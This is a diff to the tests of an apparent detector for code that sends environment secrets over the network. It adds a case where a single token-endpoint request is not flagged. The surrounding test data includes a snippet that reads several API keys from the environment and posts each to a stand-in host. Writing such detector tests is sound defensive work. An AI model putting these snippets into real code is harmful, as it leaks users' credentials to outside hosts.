@@ -244,6 +244,16 @@ def test_several_keys_at_once_are_a_collection(had: str) -> None:
     assert checks(f"import os, requests\ne = os.environ\n{had}{SENT_ALONE}") == {"python_environment_sent"}
 
 
+def test_keys_that_are_named_after_their_use_are_of_one_service() -> None:
+    form = "{'secret': e['CLIENT_SECRET'], 'refresh': e['REFRESH_TOKEN'], 'key': e['API_KEY'], 'access': e['ACCESS_TOKEN']}"
+    assert (
+        checks(
+            f"import os, requests\ne = os.environ\nrequests.post('https://api.parrotlab.example/token', json={form})"
+        )
+        == set()
+    )
+
+
 def test_several_keys_one_after_another_are_a_collection() -> None:
     sent = "requests.post('https://in.stats.example', data=e.get(name) or '')\n"
     loop = f"for name in ('PARROT_KEY', 'LION_KEY', 'BEAR_KEY'):\n    {sent}"
